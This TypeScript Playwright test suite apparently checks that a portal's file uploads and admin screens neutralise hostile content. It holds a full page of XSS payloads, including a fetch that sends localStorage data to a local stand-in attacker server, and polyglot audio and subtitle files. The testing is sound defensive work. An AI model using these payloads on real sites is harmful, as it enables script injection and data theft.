import { once } from 'node:events';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { archivoApi } from '@portal/contract/archivo';
import { empresaApi } from '@portal/contract/empresa';
import { logApi } from '@portal/contract/log';
import type { Client } from '../support/api.ts';
import { DEMO_ADMIN } from '../support/demo.ts';
import { expect, test } from '../support/test.ts';
import { uploadFile } from '../support/upload.ts';

/** Site of the attacker: remembers every address that a browser asked for. */
async function startEvil(): Promise<{ url: string; asked: string[]; server: Server }> {
  const asked: string[] = [];
  const server = createServer((request, response) => {
    asked.push(request.url ?? '');
    response.writeHead(200, { 'access-control-allow-origin': '*' }).end();
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, asked, server };
}

/** Everything by which a page runs something or calls somebody by itself. */
const attackingPage = (evil: string): string => `<!doctype html><html><head><title>quieta</title>
<base href="${evil}/base/"><meta http-equiv="refresh" content="0;url=${evil}/refresh">
<link rel="stylesheet" href="${evil}/css"><link rel="preload" as="script" href="${evil}/preload"><link rel="prefetch" href="${evil}/prefetch">
<style>@import url(${evil}/import); @font-face{font-family:x;src:url(${evil}/font)} body{background:url(${evil}/background);font-family:x}</style>
<script>document.title='actuó';fetch('${evil}/script?'+localStorage.length)</script><script src="${evil}/js"></script>
</head><body onload="document.title='actuó'"><h1>Lección</h1><img src=x onerror="document.title='actuó'"><img src="${evil}/img">
<svg onload="document.title='actuó'"><foreignObject><iframe src="${evil}/foreign"></iframe></foreignObject><image href="${evil}/svg"/></svg>
<iframe src="${evil}/frame"></iframe><iframe srcdoc="<script>top.document.title='actuó'</script>"></iframe>
<object data="${evil}/object"></object><embed src="${evil}/embed"><video src="${evil}/video" autoplay></video>
<form id="f" action="${evil}/form" method="post"><input name="a" autofocus onfocus="document.title='actuó'"></form>
<a id="enlace" href="javascript:document.title='actuó'">ver</a></body></html>`;

/** Uploads bytes as an administrator and returns the ticketed address of the file. */
async function upload(client: Client, content: string | Buffer, nombre: string): Promise<string> {
  const { id_archivo } = await uploadFile(client, content, nombre);
  return (await client.call(archivoApi.sel, { params: { id: id_archivo } })).url;
}

test.describe('files that attack their reader', () => {
  let evil: Awaited<ReturnType<typeof startEvil>>;
  test.beforeEach(async () => {
    evil = await startEvil();
  });
  test.afterEach(async () => {
    evil.server.closeAllConnections();
    evil.server.close();
    await once(evil.server, 'close');
  });

  test('a lesson that attacks runs nothing, in its frame and by its own address', async ({ page, startAs, client, portal, problems }) => {
    // Chromium says what the policy of the page refused.
    problems.expect(/Content Security Policy|sandboxed|Refused|violates|: csp$/i);
    const admin = await client.signIn(DEMO_ADMIN);
    const address = await upload(admin, attackingPage(evil.url), 'leccion.html');
    await startAs(DEMO_ADMIN);
    const dialogs: string[] = [];
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    const answer = await page.goto(address);
    expect(answer?.headers()['content-security-policy']).toContain('sandbox');
    await expect(page.getByRole('heading', { name: 'Lección' })).toBeVisible();
    await page.getByRole('link', { name: 'ver' }).click();
    await page.getByRole('textbox').first().press('Enter');
    expect(await page.title()).toBe('quieta');
    expect(new URL(page.url()).origin).toBe(new URL(portal.url).origin);

    // In a frame of the portal's own page, as the viewer has it.
    await page.goto('/dashboard');
    await page.evaluate((src) => {
      const frame = document.createElement('iframe');
      frame.sandbox.add('allow-popups', 'allow-popups-to-escape-sandbox');
      frame.src = src;
      document.body.append(frame);
    }, address);
    await expect(page.frameLocator(`iframe[src="${address}"]`).getByRole('heading', { name: 'Lección' })).toBeVisible();
    expect([evil.asked, dialogs]).toEqual([[], []]);
  });

  test('a file of two kinds is never read as a page', async ({ page, startAs, client, problems }) => {
    problems.expect(/./);
    const admin = await client.signIn(DEMO_ADMIN);
    const body = attackingPage(evil.url);
    const files = [
      await upload(admin, `WEBVTT\n\n${body}`, 'subtitulos.vtt'),
      await upload(admin, Buffer.concat([Buffer.from('ID3\u0004'), Buffer.from(body)]), 'audio.mp3'),
      await upload(admin, Buffer.concat([Buffer.from('RIFF\u0000\u0000\u0000\u0000WAVE'), Buffer.from(body)]), 'audio.wav'),
    ];
    await startAs(DEMO_ADMIN);
    for (const address of files) {
      await page.goto(address).catch(() => undefined);
      expect(await page.title(), address).not.toMatch(/quieta|actuó/);
    }
    // As a script and as a style sheet of a page of the same origin.
    await page.goto('/dashboard');
    for (const address of files) {
      const loaded = await page.evaluate(
        (src) =>
          new Promise((resolve) => {
            const script = document.createElement('script');
            script.addEventListener('load', () => resolve('load'));
            script.addEventListener('error', () => resolve('error'));
            script.src = src;
            document.head.append(script);
          }),
        address,
      );
      expect(loaded, address).toBe('error');
    }
    expect(evil.asked).toEqual([]);
  });

  test('markup in titles, texts and file names is text on every screen of an administrator', async ({ page, startAs, client }) => {
    const admin = await client.signIn(DEMO_ADMIN);
    const markup = `<img src=x onerror="document.title='actuó'">`;
    const url = await upload(admin, '%PDF-1.7\n', `${markup}.pdf`);
    expect(url).toContain('%3Cimg');
    await admin.call(empresaApi.ins, { body: { codigo_empresa: 'MARCAS', empresa: markup, codigo_estado: 1 } });
    await admin.call(logApi.ins, { body: { tipo: 'dashboard', tabla: null, detalle: markup } });
    await startAs(DEMO_ADMIN);
    for (const path of ['/empresa', '/log', '/contenido']) {
      await page.goto(`${path}?buscar=img`);
      await expect(page.getByRole('main')).toBeVisible();
      expect(await page.evaluate(() => document.querySelectorAll('[onerror], main script').length), path).toBe(0);
      expect(await page.title()).not.toContain('actuó');
    }
    await page.goto('/empresa?buscar=img');
    await expect(page.getByText('<img src=', { exact: false }).first()).toBeVisible();
    expect(evil.asked).toEqual([]);
  });
});
